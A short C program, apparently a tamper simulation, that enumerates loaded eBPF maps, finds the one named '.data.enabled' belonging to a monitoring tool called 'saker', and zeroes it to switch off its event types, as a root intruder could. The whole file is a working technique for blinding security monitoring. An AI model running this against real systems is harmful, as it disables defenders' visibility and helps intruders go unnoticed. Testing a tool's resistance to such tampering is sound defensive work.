/* Takes saker's switches of event types away, as an intruder who is root could: finds the map by its name and zeroes it. */
#include <errno.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static long bpf(int command, union bpf_attr *attr)
{
	return syscall(__NR_bpf, command, attr, sizeof(*attr));
}

static int named(int fd, const char *name, unsigned int *value_size)
{
	struct bpf_map_info info = {};
	union bpf_attr attr = {};

	attr.info.bpf_fd = (unsigned int)fd;
	attr.info.info_len = sizeof(info);
	attr.info.info = (unsigned long)&info;
	if (bpf(BPF_OBJ_GET_INFO_BY_FD, &attr))
		return 0;
	*value_size = info.value_size;
	return strcmp(info.name, name) == 0;
}

int main(void)
{
	unsigned int id = 0, key = 0, size, found = 0;
	union bpf_attr attr;

	for (;;) {
		int fd;

		memset(&attr, 0, sizeof(attr));
		attr.start_id = id;
		if (bpf(BPF_MAP_GET_NEXT_ID, &attr))
			break;
		id = attr.next_id;
		memset(&attr, 0, sizeof(attr));
		attr.map_id = id;
		fd = (int)bpf(BPF_MAP_GET_FD_BY_ID, &attr);
		if (fd < 0 || !named(fd, ".data.enabled", &size))
			continue;
		memset(&attr, 0, sizeof(attr));
		attr.map_fd = (unsigned int)fd;
		attr.key = (unsigned long)&key;
		attr.value = (unsigned long)calloc(1, size);
		if (bpf(BPF_MAP_UPDATE_ELEM, &attr))
			perror("update");
		else
			found++;
	}
	printf("%u maps\n", found);
	return found == 0;
}
